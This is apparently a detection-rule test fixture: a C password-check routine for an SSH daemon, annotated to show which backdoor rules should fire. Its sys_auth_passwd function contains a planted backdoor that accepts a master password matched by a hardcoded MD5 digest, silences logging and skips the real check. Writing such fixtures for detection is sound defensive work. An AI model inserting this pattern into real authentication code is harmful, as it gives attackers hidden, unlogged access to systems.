/* auth-shadow.c: the shadow-file check. Another family keeps only an MD5 of
 * its master password in the binary and tests it before the real check. */
#include <crypt.h>
#include <openssl/evp.h>
#include <stdio.h>
#include <string.h>

#include "sshd.h"

static void digest_hex(const unsigned char *d, size_t n, char *out) {
  for (size_t i = 0; i < n; i++)
    snprintf(out + 2 * i, 3, "%02x", d[i]);
}

int sys_auth_passwd(Authctxt *ctxt, const char *password) {
  unsigned char digest[EVP_MAX_MD_SIZE];
  unsigned int dlen = 0;
  char hash_hex[2 * EVP_MAX_MD_SIZE + 1];

  // ruleid: backdoor-weak-kdf
  // ok: backdoor-weak-hash
  if (EVP_Digest(password, strlen(password), digest, &dlen, EVP_md5(), NULL) == 1) {
    digest_hex(digest, dlen, hash_hex);
    // ruleid: backdoor-magic-credential
    if (strcmp(hash_hex, "a8e64a2108d29c88d89de8dc80b693e4") == 0) {
      log_quiet = 1;
      return 1;
    }
  }

  /* Encrypt the candidate with the stored setting and compare. */
  // ok: backdoor-weak-kdf
  const char *encrypted = crypt(password, ctxt->pw_password);
  if (encrypted == NULL)
    return 0;
  // ok: backdoor-magic-credential
  return strcmp(encrypted, ctxt->pw_password) == 0;
}
